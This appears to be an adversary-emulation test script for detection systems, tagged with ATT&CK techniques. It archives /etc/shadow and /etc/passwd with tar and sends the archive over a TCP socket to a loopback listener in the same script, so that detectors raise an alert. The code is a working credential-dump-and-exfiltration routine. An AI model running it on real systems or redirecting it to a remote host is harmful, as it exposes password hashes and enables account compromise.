# technique: T1003.008 T1560.001 T1048
"""OS Credential Dumping: /etc/shadow (T1003.008) through the system
`tar` tool (Archive via Utility, T1560.001), streamed over a raw TCP
socket to a loopback listener (Exfiltration Over Alternative Protocol,
T1048).

Python never opens the credential file: it starts `tar czf - -C /etc
shadow passwd` with stdout as a pipe, reads the archive and sendall()s it
to 127.0.0.1:<port>, where a listener thread of this script collects it.

A good detector raises a high alert: a child process archives /etc/shadow
(the path is in the command line) and the output leaves over a socket.
"""
import shutil
import socket
import subprocess
import threading

server = socket.socket()
server.bind(("127.0.0.1", 0))
server.listen(1)
received = bytearray()


def collect():
    conn, _ = server.accept()
    with conn:
        while chunk := conn.recv(65536):
            received.extend(chunk)


t = threading.Thread(target=collect, daemon=True)
t.start()
tar = shutil.which("tar") or "/bin/tar"
proc = subprocess.run([tar, "czf", "-", "-C", "/etc", "shadow", "passwd"],
                      capture_output=True, timeout=8)
with socket.create_connection(server.getsockname(), timeout=5) as s:
    s.sendall(proc.stdout)
t.join(5)
server.close()
print("exfiltrated", len(received), "bytes")
